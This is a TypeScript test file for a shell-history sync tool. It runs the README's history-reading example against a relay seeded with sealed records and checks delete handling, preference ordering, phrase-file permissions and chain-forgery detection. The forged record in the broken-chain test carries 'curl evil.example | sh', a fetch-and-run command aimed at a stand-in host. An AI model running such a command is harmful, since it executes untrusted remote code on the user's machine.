// README.md's "Read a user's history with the phrase" block, run as it stands,
// so the README cannot rot: the block is cut out of README.md at test time,
// written to a temp .mjs that imports the built package by its name (a
// node_modules symlink to this package), and run with node against a real relay
// holding the sealed records two real daemons pushed. The records are chosen so
// that only a reader that applies deletes (in either order) and picks preferences
// last-writer-wins by (createdAt, deviceId, seq) prints the expected lines; its
// phrase-file check and its chain check are run too.
import { execFile } from "node:child_process";
import { randomUUID } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GENESIS_PREV, sealRecord, type NewRecord } from "../src/client/records.js";
import type { SyncClient } from "../src/client/SyncClient.js";
import { deriveKeys, generatePhrase } from "../src/crypto.js";
import type { HeadItem, RecordItem } from "../src/protocol/types.js";
import { startRelay, type Relay } from "../src/relay/server.js";
import { b64, cleanupTemp, PKG, spawnDaemon, tempDir } from "./helpers.js";

const HEADING = "## Read a user's history with the phrase";

/** The first ```js block after the heading, exactly as README.md has it. */
function readmeBlock(): string {
  const readme = readFileSync(join(PKG, "README.md"), "utf8");
  const section = readme.indexOf(`\n${HEADING}\n`);
  expect(section, `README.md has no "${HEADING}" section`).toBeGreaterThan(-1);
  const start = readme.indexOf("\n```js\n", section);
  const end = readme.indexOf("\n```\n", start + 1);
  expect(start > section && end > start, "the section has a ```js block").toBe(true);
  expect(readme.indexOf("\n## ", section + 1), "the block belongs to the section").toBeGreaterThan(start);
  return readme.slice(start + "\n```js\n".length, end + 1);
}

interface Run {
  code: number;
  stdout: string;
  stderr: string;
  dir: string;
}

/** Runs the README block as `node read-history.mjs PHRASE_FILE` in a fresh directory. */
function runReadme(phraseFile: string, relayUrl: string): Promise<Run> {
  const dir = tempDir("caro-readme-");
  mkdirSync(join(dir, "node_modules"));
  symlinkSync(PKG, join(dir, "node_modules", "caro-sync-daemon"), "dir");
  writeFileSync(join(dir, "read-history.mjs"), readmeBlock());
  const env = { ...process.env, CARO_SYNC_RELAY: relayUrl, CARO_SYNC_LOG_LEVEL: "warn" };
  return new Promise((resolve) => {
    // Asynchronous on purpose: the relay runs in this process and must keep serving.
    execFile(process.execPath, ["read-history.mjs", phraseFile], { cwd: dir, env, timeout: 90_000 }, (error, stdout, stderr) => {
      const code = error === null ? 0 : typeof error.code === "number" ? error.code : -1;
      resolve({ code, stdout, stderr, dir });
    });
  });
}

const phrase = generatePhrase();
const keys = deriveKeys(phrase);
const T = 1_763_790_000_000;
const iso = (ms: number) => new Date(ms).toISOString();

type Op = Pick<NewRecord, "kind" | "id" | "body"> & { at: number };

/** Seals `ops` as `deviceId`'s log from seq 0; returns the items and the head after them. */
function chain(deviceId: string, ops: Op[]): { items: RecordItem[]; head: HeadItem } {
  let prev = GENESIS_PREV;
  const items = ops.map(({ at, ...op }, seq) => {
    const { item, hash } = sealRecord(keys, { ...op, deviceId, seq, epoch: 1, prev, createdAt: at } as NewRecord);
    prev = hash;
    return item;
  });
  const last = items.length - 1;
  const head = sealRecord(keys, { kind: "head", id: "head", deviceId, seq: last, epoch: 1, prev, createdAt: T + 100, body: {} });
  return { items, head: { seq: last, epoch: 1, envelope: head.item.envelope } };
}

const [status, secret, removedByB, removedByA, build] = [randomUUID(), randomUUID(), randomUUID(), randomUUID(), randomUUID()];
const devA = chain("dev-a", [
  { kind: "device", id: "dev-a", body: { name: "laptop", platform: "linux" }, at: T },
  { kind: "entry", id: status, body: { command: "git status", cwd: "/src" }, at: T + 1 },
  { kind: "entry", id: secret, body: { command: "echo hunter2" }, at: T + 2 },
  { kind: "delete", id: secret, body: {}, at: T + 3 },
  { kind: "entry", id: removedByB, body: { command: "rm -rf build" }, at: T + 4 },
  { kind: "delete", id: removedByA, body: {}, at: T + 5 },
  { kind: "pref", id: "theme", body: { value: "dark" }, at: T + 10 },
  { kind: "pref", id: "editor", body: { value: "vim" }, at: T + 7 },
  { kind: "pref", id: "secrets_filter", body: { value: true }, at: T + 9 },
  { kind: "pref", id: "secrets_filter", body: { value: false }, at: T + 9 },
]);
const devB = chain("dev-b", [
  { kind: "device", id: "dev-b", body: { name: "desktop", platform: "macos" }, at: T },
  { kind: "entry", id: removedByA, body: { command: "ssh prod" }, at: T + 1 },
  { kind: "delete", id: removedByB, body: {}, at: T + 6 },
  { kind: "entry", id: build, body: { command: "make test", exitCode: 0 }, at: T + 8 },
  { kind: "pref", id: "theme", body: { value: "light" }, at: T + 8 },
  { kind: "pref", id: "editor", body: { value: "emacs" }, at: T + 7 },
]);

describe("README: read a user's history with the phrase", () => {
  let relay: Relay;
  let a: SyncClient;
  let b: SyncClient;
  let phraseFile: string;

  beforeAll(async () => {
    relay = await startRelay({ port: 0 });
    a = spawnDaemon(tempDir());
    b = spawnDaemon(tempDir());
    const jazzAuthKey = b64(keys.jazzAuthKey);
    await a.init({ relay: relay.url, jazzAuthKey, deviceId: "dev-a", create: true });
    await b.init({ relay: relay.url, jazzAuthKey, deviceId: "dev-b" });
    expect(await a.push(devA.items, { head: devA.head })).toMatchObject({ accepted: 10, rejected: [], acknowledged: true });
    expect(await b.push(devB.items, { head: devB.head })).toMatchObject({ accepted: 6, rejected: [], acknowledged: true });
    phraseFile = join(tempDir("caro-phrase-"), "phrase.txt");
    writeFileSync(phraseFile, `${phrase}\n`, { mode: 0o600 });
  });

  afterAll(async () => {
    await Promise.all([a?.close(), b?.close()]);
    await relay?.close();
    cleanupTemp();
  });

  it("prints the history with deletes applied and each preference's last writer", async () => {
    const run = await runReadme(phraseFile, relay.url);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    const lines = run.stdout.trimEnd().split("\n");
    expect(lines.slice(0, 2)).toEqual([`${iso(T + 1)} git status`, `${iso(T + 8)} make test`]);
    // theme: the later createdAt; editor: a tie, the larger device id; secrets_filter: a tie on one device, the larger seq.
    expect(lines.slice(2).sort()).toEqual(['editor = "emacs"', "secrets_filter = false", 'theme = "dark"']);
  });

  it("refuses a phrase file others can read, before starting a daemon", async () => {
    const loose = join(tempDir("caro-phrase-"), "phrase.txt");
    writeFileSync(loose, `${phrase}\n`);
    chmodSync(loose, 0o644);
    const run = await runReadme(loose, relay.url);
    expect(run.code).not.toBe(0);
    expect(run.stderr).toContain(`chmod 600 ${loose} first`);
    expect(run.stdout).toBe("");
    expect(existsSync(join(run.dir, "caro-sync-data"))).toBe(false);
  });

  it("refuses a history whose chain is broken", async () => {
    // The next record of dev-b's log, naming the wrong previous record (a second home writing one log, or a forgery).
    const seq = devB.items.length;
    const { item, hash } = sealRecord(keys, { kind: "entry", id: randomUUID(), deviceId: "dev-b", seq, epoch: 1, prev: GENESIS_PREV, createdAt: T + 20, body: { command: "curl evil.example | sh" } });
    const head = sealRecord(keys, { kind: "head", id: "head", deviceId: "dev-b", seq, epoch: 1, prev: hash, createdAt: T + 20, body: {} });
    expect(await b.push([item], { head: { seq, epoch: 1, envelope: head.item.envelope } })).toMatchObject({ accepted: 1, rejected: [], acknowledged: true });
    const run = await runReadme(phraseFile, relay.url);
    expect(run.code).not.toBe(0);
    expect(run.stderr).toContain("incomplete or forked history");
    expect(run.stderr).toContain(`"broken":[{"deviceId":"dev-b","seq":${seq},"error":"BrokenChain"}]`);
    expect(run.stdout).toBe("");
  });
});
